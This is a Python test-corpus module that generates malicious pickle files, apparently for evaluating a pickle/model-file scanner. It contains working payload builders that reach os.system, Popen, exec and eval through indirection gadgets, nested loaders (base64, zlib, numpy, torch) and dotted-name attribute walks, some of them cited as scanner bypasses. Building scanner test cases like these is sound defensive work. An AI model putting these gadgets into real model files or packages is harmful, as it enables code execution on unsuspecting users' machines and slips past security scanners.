"""Indirection gadgets, nested loaders and dotted names: payloads whose dangerous target is
reached through an innocent-looking first hop.

``operator``/``functools``/``importlib``/``pkgutil.resolve_name`` (GHSA-vvpj-8cmc-gx39),
``sys.modules`` aliasing, ``logging.config.dictConfig`` factories, ``copyreg._reconstructor``,
code objects, ``pickle``/``torch``/``numpy``/``lib2to3`` loaders fed an inner malicious pickle,
and protocol-4 attribute walks such as ``os`` + ``path.os.system``.
"""

from __future__ import annotations

import base64
import io
import marshal
import os
import zlib

from tests.corpus._spec import NESTED, PKL_ANY, Marker, Payload, Spec, mal
from tests.corpus.gadgets import Make, method_call
from tests.corpus.pickle_ops import Asm

NESTED_ANY = NESTED | PKL_ANY


def inner_pickle(m: Marker) -> bytes:
    """The malicious pickle that nested loaders are handed."""
    return Asm().proto(2).call("os", "system", m.shell).stop().bytes()


def _methodcaller_import(m: Marker) -> bytes:
    a = Asm().proto(2).call("operator", "methodcaller", "system", m.shell)
    return a.call("importlib", "import_module", "os").tuple_(1).reduce().stop().bytes()


def _attrgetter_sys_modules(m: Marker) -> bytes:
    a = Asm().proto(2).call("_operator", "attrgetter", "system")
    a.call("_operator", "itemgetter", "os").global_("sys", "modules").tuple_(1).reduce()
    return a.tuple_(1).reduce().push((m.shell,)).reduce().stop().bytes()


def _partial(m: Marker) -> bytes:
    a = Asm().proto(2).global_("functools", "partial").global_("os", "system")
    return a.str_(m.shell).tuple_(2).reduce().push(()).reduce().stop().bytes()


def _function_type_compile(m: Marker) -> bytes:
    a = Asm().proto(2).global_("types", "FunctionType")
    a.call("builtins", "compile", m.py, "<p>", "exec").empty_dict().tuple_(2).reduce()
    return a.push(()).reduce().stop().bytes()


def _function_type_marshal(m: Marker) -> bytes:
    code = marshal.dumps(compile(m.py, "<p>", "exec"))
    a = Asm().proto(2).global_("types", "FunctionType")
    a.call("marshal", "loads", code).empty_dict().tuple_(2).reduce()
    return a.push(()).reduce().stop().bytes()


def _sys_modules_alias(m: Marker) -> bytes:
    # sys.modules['model_utils'] = os.path (posixpath), then 'model_utils' + 'os.system'.
    a = Asm().proto(4).global_("sys", "modules").str_("model_utils").global_("os", "path")
    a.setitem().pop().stack_global_of("model_utils", "os.system")
    return a.push((m.shell,)).reduce().stop().bytes()


def _resolve_name(m: Marker) -> bytes:
    a = Asm().proto(2).call("pkgutil", "resolve_name", "os:system")
    return a.push((m.shell,)).reduce().stop().bytes()


def _setattr(m: Marker) -> bytes:
    a = Asm().proto(2).global_("builtins", "setattr")
    a.call("importlib", "import_module", "json").str_("loads").global_("builtins", "eval")
    return a.tuple_(3).reduce().stop().bytes()


def _dict_config(m: Marker) -> bytes:
    config = {
        "version": 1,
        "filters": {"f": {"()": "subprocess.getoutput", "cmd": m.shell}},
    }
    return Asm().proto(2).call("logging.config", "dictConfig", config).stop().bytes()


def _torch_from_bytes(m: Marker) -> bytes:
    return Asm().proto(2).call("torch.storage", "_load_from_bytes", inner_pickle(m)).stop().bytes()


def _torch_load_partial(m: Marker) -> bytes:
    # partial(torch.load) whose BUILD state adds weights_only=False, called on a BytesIO.
    a = Asm().proto(2).global_("functools", "partial").global_("torch", "load").tuple_(1).reduce()
    a.mark().global_("torch", "load").push(()).push({"weights_only": False}).none().tuple_()
    a.build().call("_io", "BytesIO", inner_pickle(m)).tuple_(1).reduce()
    return a.stop().bytes()


def _nested(module: str, name: str) -> Make:
    return lambda m: Asm().proto(2).call(module, name, inner_pickle(m)).stop().bytes()


def _b64_nested(m: Marker) -> bytes:
    a = Asm().proto(2).global_("pickle", "loads")
    a.call("base64", "b64decode", base64.b64encode(inner_pickle(m)).decode())
    return a.tuple_(1).reduce().stop().bytes()


def _zlib_nested(m: Marker) -> bytes:
    a = Asm().proto(2).global_("pickle", "loads")
    a.call("zlib", "decompress", zlib.compress(inner_pickle(m)))
    return a.tuple_(1).reduce().stop().bytes()


def _numpy_nested(m: Marker) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([Payload(os.system, m.shell)], dtype=object), allow_pickle=True)
    a = Asm().proto(2).global_("numpy", "load")
    a.call("_io", "BytesIO", buf.getvalue()).none().bool_(True).tuple_(3).reduce()
    return a.stop().bytes()


def _dotted(module: str, name: str, *, text_global: bool = False, py: bool = False) -> Make:
    def make(m: Marker) -> bytes:
        a = Asm().proto(4)
        if text_global:
            a.global_(module, name)
        else:
            a.stack_global_of(module, name)
        return a.push((m.py if py else m.shell,)).reduce().stop().bytes()

    return make


def _torch_dotted_loads(m: Marker) -> bytes:
    a = Asm().proto(4).stack_global_of("torch", "serialization.pickle.loads")
    return a.push((inner_pickle(m),)).reduce().stop().bytes()


# (relpath, family, rules, note, writer, loader, needs, quick)
_ROWS: list[tuple[str, str, frozenset[str], str, Make, str, tuple[str, ...], bool]] = [
    (
        "operator_methodcaller_import_module.pkl",
        "gadget-indirection",
        PKL_ANY,
        "methodcaller('system', cmd)(importlib.import_module('os'))",
        _methodcaller_import,
        "pickle",
        (),
        True,
    ),
    (
        "operator_attrgetter_sys_modules.pkl",
        "gadget-indirection",
        PKL_ANY,
        "_operator.attrgetter('system')(itemgetter('os')(sys.modules))(cmd)",
        _attrgetter_sys_modules,
        "pickle",
        (),
        False,
    ),
    (
        "functools_partial_system.pkl",
        "gadget-indirection",
        PKL_ANY,
        "functools.partial(os.system, cmd)()",
        _partial,
        "pickle",
        (),
        False,
    ),
    (
        "pkgutil_resolve_name.pkl",
        "gadget-indirection",
        PKL_ANY,
        "pkgutil.resolve_name('os:system')(cmd) (GHSA-vvpj-8cmc-gx39 universal bypass)",
        _resolve_name,
        "pickle",
        (),
        True,
    ),
    (
        "sys_modules_alias.pkl",
        "gadget-indirection",
        PKL_ANY,
        "sys.modules['model_utils'] = os.path; then STACK_GLOBAL model_utils os.system",
        _sys_modules_alias,
        "pickle",
        (),
        False,
    ),
    (
        "builtins_setattr.pkl",
        "gadget-indirection",
        PKL_ANY,
        "setattr(json, 'loads', eval): hijacks the loading process (no marker)",
        _setattr,
        "",
        (),
        False,
    ),
    (
        "logging_dictconfig.pkl",
        "gadget-indirection",
        PKL_ANY,
        "logging.config.dictConfig with a '()' factory naming subprocess.getoutput",
        _dict_config,
        "pickle",
        (),
        False,
    ),
    (
        "copyreg_reconstructor_popen.pkl",
        "gadget-indirection",
        PKL_ANY,
        "copyreg._reconstructor(Popen, Popen, argv) calls Popen.__init__",
        lambda m: (
            Asm()
            .proto(2)
            .global_("copyreg", "_reconstructor")
            .mark()
            .global_("subprocess", "Popen")
            .global_("subprocess", "Popen")
            .push(m.argv)
            .tuple_()
            .reduce()
            .stop()
            .bytes()
        ),
        "pickle",
        (),
        False,
    ),
    (
        "types_functiontype_compile.pkl",
        "gadget-code-object",
        PKL_ANY,
        "types.FunctionType(compile(source), {})()",
        _function_type_compile,
        "pickle",
        (),
        False,
    ),
    (
        "types_functiontype_marshal.pkl",
        "gadget-code-object",
        PKL_ANY,
        "types.FunctionType(marshal.loads(code), {})()",
        _function_type_marshal,
        "pickle",
        (),
        True,
    ),
    (
        "pickle_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "pickle.loads(inner malicious pickle)",
        _nested("pickle", "loads"),
        "pickle",
        (),
        True,
    ),
    (
        "_pickle_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "_pickle.loads(inner)",
        _nested("_pickle", "loads"),
        "pickle",
        (),
        False,
    ),
    (
        "pickle_loads_base64.pkl",
        "nested-loader",
        NESTED_ANY,
        "pickle.loads(base64.b64decode(text)): inner pickle hidden in base64",
        _b64_nested,
        "pickle",
        (),
        False,
    ),
    (
        "pickle_loads_zlib.pkl",
        "nested-loader",
        NESTED_ANY,
        "pickle.loads(zlib.decompress(bytes)): inner pickle compressed",
        _zlib_nested,
        "pickle",
        (),
        False,
    ),
    (
        "dill_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "dill.loads(inner) (not run: no dill)",
        _nested("dill", "loads"),
        "",
        (),
        False,
    ),
    (
        "lib2to3_grammar_loads.pkl",
        "nested-loader",
        NESTED_ANY,
        "lib2to3.pgen2.grammar.Grammar().loads(inner) (picklescan GHSA-f54q)",
        method_call("lib2to3.pgen2.grammar", "Grammar", "loads", (), inner_pickle),
        "pickle",
        (),
        False,
    ),
    (
        "numpy_load_nested.pkl",
        "nested-loader",
        NESTED_ANY,
        "numpy.load(BytesIO(npy object array), None, True)",
        _numpy_nested,
        "pickle",
        ("numpy",),
        False,
    ),
    (
        "torch_load_from_bytes.pkl",
        "nested-loader",
        NESTED_ANY,
        "torch.storage._load_from_bytes(inner): torch.load(weights_only=False) inside",
        _torch_from_bytes,
        "pickle",
        ("torch",),
        True,
    ),
    (
        "torch_load_partial_kwargs.pkl",
        "nested-loader",
        NESTED_ANY,
        "partial(torch.load) given weights_only=False through BUILD state, on a BytesIO",
        _torch_load_partial,
        "pickle",
        ("torch",),
        False,
    ),
    (
        "dotted_os_path_os_system.pkl",
        "dotted-name",
        PKL_ANY,
        "STACK_GLOBAL 'os' 'path.os.system': protocol-4 attribute walk",
        _dotted("os", "path.os.system"),
        "pickle",
        (),
        True,
    ),
    (
        "dotted_global_opcode_p4.pkl",
        "dotted-name",
        PKL_ANY,
        "text GLOBAL 'os' 'path.os.system' inside a protocol-4 stream",
        _dotted("os", "path.os.system", text_global=True),
        "pickle",
        (),
        False,
    ),
    (
        "dotted_module_os_path.pkl",
        "dotted-name",
        PKL_ANY,
        "module 'os.path' (a submodule) with name 'os.system'",
        _dotted("os.path", "os.system"),
        "pickle",
        (),
        False,
    ),
    (
        "dotted_numpy_testing_os_system.pkl",
        "dotted-name",
        PKL_ANY,
        "'numpy' 'testing._private.utils.os.system': innocent package, dangerous leaf",
        _dotted("numpy", "testing._private.utils.os.system"),
        "pickle",
        ("numpy",),
        False,
    ),
    (
        "dotted_print_self_exec.pkl",
        "dotted-name",
        PKL_ANY,
        "'builtins' 'print.__self__.exec': builtins.exec reached through a bound method",
        _dotted("builtins", "print.__self__.exec", py=True),
        "pickle",
        (),
        False,
    ),
    (
        "dotted_torch_serialization_pickle_loads.pkl",
        "dotted-name",
        NESTED_ANY,
        "'torch' 'serialization.pickle.loads' with an inner malicious pickle",
        _torch_dotted_loads,
        "pickle",
        ("torch",),
        False,
    ),
]


def specs() -> list[Spec]:
    """Specs for every row (file names under ``malicious/gadgets/``, as before the split)."""
    return [
        mal(f"gadgets/{rel}", fam, rules, note, make, loader=loader, needs=needs, quick=quick)
        for rel, fam, rules, note, make, loader, needs, quick in _ROWS
    ]
